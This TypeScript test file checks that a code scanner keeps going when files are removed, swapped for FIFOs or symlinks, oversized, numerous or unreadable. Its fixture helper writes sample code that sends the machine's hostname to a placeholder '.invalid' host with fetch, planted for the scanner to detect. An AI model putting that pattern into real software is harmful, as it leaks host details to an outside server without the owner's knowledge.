import * as assert from 'assert';
import { execFileSync, spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { analyzeSource } from '../../../src/core/analyze';
import type { FileResult } from '../../../src/core/model';
import { scanPaths } from '../../../src/host/scanner';
import { tempDir, write } from '../../support/host-fixtures';

/*
 * Files that move under a scan: removed, swapped for a symlink to /dev/zero or a FIFO, grown past
 * the limit after they were listed; a folder of 20,000 files; a 100 MB one-line file; folders the
 * user cannot read. Each gets an error for that file or folder, and the rest of the scan goes on.
 */
const ROOT = path.resolve(__dirname, '..', '..', '..', '..');
const JS = (k: string) => `const ${k} = require("os").hostname();\nfetch("https://${k}.invalid/?h=" + ${k});\n`;

describe('files that move under a scan, and folders that are large or closed', function () {
  this.timeout(5 * 60 * 1000);
  let dir: string;
  beforeEach(() => (dir = tempDir('candor-moving-')));
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('gives an error for each file removed, swapped for a device, a FIFO or a symlink, or grown past the limit after it was listed, and reads the rest', async function () {
    if (process.platform === 'win32') this.skip();
    const folder = path.join(dir, 'tool');
    for (const k of ['a', 'b', 'c', 'd', 'e', 'f', 'g']) write(path.join(folder, `${k}.js`), JS(k));
    let changed = false;
    // Analysed one at a time: while a.js is analysed, the files listed after it change.
    const analyze = (p: string, text: string): FileResult => {
      if (!changed && p.endsWith('a.js')) {
        changed = true;
        fs.rmSync(path.join(folder, 'b.js'));
        fs.rmSync(path.join(folder, 'c.js'));
        fs.symlinkSync('/dev/zero', path.join(folder, 'c.js'));
        fs.rmSync(path.join(folder, 'd.js'));
        execFileSync('mkfifo', [path.join(folder, 'd.js')]);
        fs.writeFileSync(path.join(folder, 'e.js'), JS('e') + `// ${'x'.repeat(2 * 1024 * 1024)}\n`);
        fs.rmSync(path.join(folder, 'f.js'));
        fs.symlinkSync(path.join(folder, 'g.js'), path.join(folder, 'f.js'));
      }
      return analyzeSource(p, text);
    };
    const started = Date.now();
    const r = await scanPaths([folder], { analyze, concurrency: 1, maxFileBytes: 1024 * 1024 });
    assert.ok(Date.now() - started < 60_000, 'nothing blocks on a FIFO or reads a device forever');
    const errs = Object.fromEntries(r.errors.map((e) => [path.basename(e.path), `${e.kind}: ${e.reason}`]));
    assert.match(errs['b.js'], /^read: the file was removed during the scan/);
    assert.match(errs['c.js'], /^unsupported: not a regular file/);
    assert.match(errs['d.js'], /^unsupported: not a regular file/);
    assert.match(errs['e.js'], /^limit: File is \d+ bytes, above the 1048576-byte limit/);
    const read = new Set(r.findings.map((f) => path.basename(f.location.path)));
    // f.js became a link to g.js: g's code is read once, under whichever name came first.
    assert.ok(read.has('a.js') && (read.has('g.js') || read.has('f.js')), [...read].join());
    assert.deepStrictEqual(Object.keys(errs).sort(), ['b.js', 'c.js', 'd.js', 'e.js']);
  });

  it('refuses a 100 MB one-line file with a limit error and scans the files beside it', async () => {
    const folder = path.join(dir, 'big');
    fs.mkdirSync(folder);
    const big = fs.openSync(path.join(folder, 'huge.js'), 'w');
    fs.writeSync(big, 'var s="');
    const chunk = Buffer.alloc(1024 * 1024, 0x41);
    for (let i = 0; i < 100; i++) fs.writeSync(big, chunk);
    fs.writeSync(big, '";\n');
    fs.closeSync(big);
    write(path.join(folder, 'small.js'), JS('small'));
    const r = await scanPaths([folder]);
    assert.deepStrictEqual(r.errors.map((e) => [path.basename(e.path), e.kind]), [['huge.js', 'limit']]);
    assert.ok(r.findings.some((f) => f.location.path.endsWith('small.js')));
  });

  it('scans a folder of 20,000 files to the end', async () => {
    const folder = path.join(dir, 'many');
    for (let i = 0; i < 200; i++) {
      const sub = path.join(folder, `m${i}`);
      fs.mkdirSync(sub, { recursive: true });
      for (let j = 0; j < 100; j++) fs.writeFileSync(path.join(sub, `f${j}.js`), `module.exports = ${i * 100 + j};\n`);
    }
    write(path.join(folder, 'zz', 'last.js'), JS('last'));
    let files = 0;
    const r = await scanPaths([folder], { analyze: (p, t) => (files++, analyzeSource(p, t)) });
    assert.deepStrictEqual(r.errors, []);
    // Identical files are analysed once: 20,000 distinct sources plus the last one.
    assert.strictEqual(files, 20_001);
    assert.ok(r.findings.some((f) => f.location.path.endsWith('last.js')), 'the file after 20,000 others is read');
  });

  it('as a user who cannot read a folder, reports that folder and scans the rest (the built CLI, run as nobody)', function () {
    if (process.platform === 'win32' || process.getuid?.() !== 0) this.skip(); // needs root to become another user
    const nobody = 65534;
    fs.chmodSync(dir, 0o755);
    const folder = path.join(dir, 'tool');
    write(path.join(folder, 'open.js'), JS('open'));
    write(path.join(folder, 'closed', 'secret.js'), JS('secret'));
    write(path.join(folder, 'unreadable.js'), JS('unreadable'));
    fs.chmodSync(path.join(folder, 'closed'), 0o700);
    fs.chmodSync(path.join(folder, 'unreadable.js'), 0o600);
    for (const p of [folder, path.join(folder, 'open.js')]) fs.chmodSync(p, fs.statSync(p).isDirectory() ? 0o755 : 0o644);
    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist', 'cli.js'), 'scan', '-f', 'json', '--no-cache', folder], { uid: nobody, gid: nobody, encoding: 'utf8', cwd: os.tmpdir(), env: { PATH: process.env.PATH, HOME: dir } });
    assert.strictEqual(r.status, 0, r.stderr);
    const rep = JSON.parse(r.stdout) as { errors: { path: string; kind: string; reason: string }[]; findings: { location: { path: string } }[] };
    const errs = rep.errors.map((e) => `${path.basename(e.path)} ${e.kind} ${e.reason}`);
    assert.ok(errs.some((e) => /^closed read .*EACCES/.test(e)), errs.join('\n'));
    assert.ok(errs.some((e) => /^unreadable\.js read .*EACCES/.test(e)), errs.join('\n'));
    assert.ok(rep.findings.some((f) => f.location.path.endsWith('open.js')), 'the readable file is scanned');
  });
});
